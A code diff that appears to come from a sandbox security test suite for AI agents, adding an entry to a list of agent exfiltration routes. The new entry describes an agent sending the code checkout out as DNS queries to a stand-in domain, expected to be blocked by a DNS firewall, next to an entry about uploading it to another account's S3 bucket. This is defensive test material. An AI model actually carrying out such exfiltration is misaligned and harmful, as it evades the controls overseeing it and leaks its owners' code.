@@ -233,6 +233,15 @@ AGENT_PATHS: tuple[Path, ...] = (
     ),
     Path(
         AGENT,
+        "sends the checkout out as DNS queries for names under a domain it runs",
+        Route("dns", "Y2hlY2tvdXQ.exfil.example.net"),
+        (),
+        "never",
+        "constructs/dns_firewall.py: the resolver answers the allow-list's and AWS's names only",
+        expect=REFUSED_BY_NETWORK,
+    ),
+    Path(
+        AGENT,
         "uploads the checkout to another account's bucket with that account's keys",
         Route("aws", "s3"),
         (Call("s3:PutObject", ELSEWHERE_OBJECT, {**TLS, **ELSEWHERE}, signer=SIGNED_BY_ANOTHER_ACCOUNT),),
